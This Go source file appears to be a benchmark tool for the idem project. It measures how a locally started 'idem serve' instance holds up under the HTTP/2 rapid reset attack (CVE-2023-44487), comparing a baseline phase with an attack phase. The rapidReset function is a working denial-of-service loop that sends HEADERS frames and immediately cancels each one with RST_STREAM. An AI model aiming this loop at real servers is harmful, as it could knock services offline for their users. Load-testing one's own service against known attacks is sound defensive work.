// Command rapidreset measures HTTP/2 rapid reset (CVE-2023-44487) against
// `idem serve`: attacking connections open streams (HEADERS of a protected
// POST, without its body) and reset them at once (RST_STREAM CANCEL), in a
// loop, while legitimate clients send protected requests over h2c. It runs
// two phases of -d each, without and with the attack, and prints for each
// the legitimate requests served per second, the attack's streams per
// second, the CPU idem serve spent per second (user + system, from
// /proc/<pid>/stat) and its resident memory (RSS, and its peak). It starts
// the binary (-idem) on a memory store in front of an upstream of its own.
// scripts/bench-rapid-reset.sh runs it.
//
//	go build -o /tmp/idem ./cmd/idem
//	go run ./internal/tools/rapidreset -idem /tmp/idem -d 10s
//
// Arguments after "--" go to idem serve.
package main

import (
	"bytes"
	"context"
	"flag"
	"fmt"
	"io"
	"log"
	"net"
	"net/http"
	"os"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"

	"github.com/idem-dev/idem/internal/tools/toolproc"
)

func main() {
	bin := flag.String("idem", "idem", "the idem binary")
	d := flag.Duration("d", 10*time.Second, "length of each phase")
	attackers := flag.Int("attackers", 2, "attacking connections")
	good := flag.Int("c", 4, "legitimate clients (one h2c connection shared)")
	flag.Parse()

	up := toolproc.Upstream(toolproc.Discard(http.StatusCreated))
	addr := toolproc.FreeAddr()
	args := append([]string{"serve", "--upstream", "http://" + up, "--listen", addr, "--store", "memory://",
		"--anonymous", "shared", "--log-level", "error"}, flag.Args()...)
	cmd := toolproc.Serve(*bin, addr, args...)
	defer cmd.Process.Kill()
	pid := cmd.Process.Pid

	for _, attack := range []bool{false, true} {
		ctx, cancel := context.WithTimeout(context.Background(), *d)
		var streams, reconnects atomic.Int64
		var wg sync.WaitGroup
		if attack {
			for range *attackers {
				wg.Go(func() { rapidReset(ctx, addr, &streams, &reconnects) })
			}
		}
		cpu0, start := cpuSeconds(pid), time.Now()
		served, failed := legitimate(ctx, addr, *good)
		wg.Wait()
		cancel()
		el := time.Since(start).Seconds()
		cpu := cpuSeconds(pid) - cpu0
		m := toolproc.Read(pid)
		name := "baseline"
		if attack {
			name = "attack"
		}
		fmt.Printf("%-8s good=%.0f/s failed=%d attack_streams=%.0f/s reconnects=%d idem_cpu=%.2f s/s rss=%.1fMiB hwm=%.1fMiB\n",
			name, float64(served)/el, failed, float64(streams.Load())/el, reconnects.Load(), cpu/el, toolproc.MiB(m.RSS), toolproc.MiB(m.HWM))
	}
}

// legitimate sends protected POSTs with fresh keys over one h2c
// connection from c goroutines until ctx ends.
func legitimate(ctx context.Context, addr string, c int) (served, failed int64) {
	var p http.Protocols
	p.SetUnencryptedHTTP2(true)
	client := &http.Client{Transport: &http.Transport{Protocols: &p}, Timeout: 10 * time.Second}
	var ok, bad atomic.Int64
	var wg sync.WaitGroup
	for g := range c {
		wg.Go(func() {
			for i := 0; ctx.Err() == nil; i++ {
				req, _ := http.NewRequest(http.MethodPost, "http://"+addr+"/pay", strings.NewReader(`{"amount":1}`))
				req.Header.Set("Idempotency-Key", fmt.Sprintf("good-%d-%d-%d", time.Now().UnixNano(), g, i))
				req.Header.Set("Content-Type", "application/json")
				resp, err := client.Do(req)
				if err != nil {
					bad.Add(1)
					continue
				}
				io.Copy(io.Discard, resp.Body)
				resp.Body.Close()
				if resp.StatusCode == http.StatusCreated {
					ok.Add(1)
				} else {
					bad.Add(1)
				}
			}
		})
	}
	wg.Wait()
	return ok.Load(), bad.Load()
}

// rapidReset opens and resets streams on one connection after another
// until ctx ends.
func rapidReset(ctx context.Context, addr string, streams, reconnects *atomic.Int64) {
	var hb bytes.Buffer
	enc := hpack.NewEncoder(&hb)
	for _, f := range [][2]string{{":method", "POST"}, {":scheme", "http"}, {":authority", addr}, {":path", "/pay"},
		{"content-type", "application/json"}, {"idempotency-key", "attack"}} {
		enc.WriteField(hpack.HeaderField{Name: f[0], Value: f[1]})
	}
	block := hb.Bytes()
	for ctx.Err() == nil {
		c, err := net.Dial("tcp", addr)
		if err != nil {
			return
		}
		reconnects.Add(1)
		go io.Copy(io.Discard, c) // read what the server sends, GOAWAY included
		stop := context.AfterFunc(ctx, func() { c.Close() })
		c.Write([]byte(http2.ClientPreface))
		fr := http2.NewFramer(c, c)
		fr.WriteSettings()
		for id := uint32(1); ctx.Err() == nil && id < 1<<30; id += 2 {
			if err := fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block, EndHeaders: true}); err != nil {
				break
			}
			if err := fr.WriteRSTStream(id, http2.ErrCodeCancel); err != nil {
				break
			}
			streams.Add(1)
		}
		stop()
		c.Close()
	}
}

// cpuSeconds is pid's user + system CPU time.
func cpuSeconds(pid int) float64 {
	b, err := os.ReadFile("/proc/" + strconv.Itoa(pid) + "/stat")
	if err != nil {
		log.Fatal(err)
	}
	f := strings.Fields(string(b[bytes.LastIndexByte(b, ')')+2:]))
	u, _ := strconv.ParseFloat(f[11], 64)
	s, _ := strconv.ParseFloat(f[12], 64)
	return (u + s) / 100 // clock ticks; 100 on Linux
}
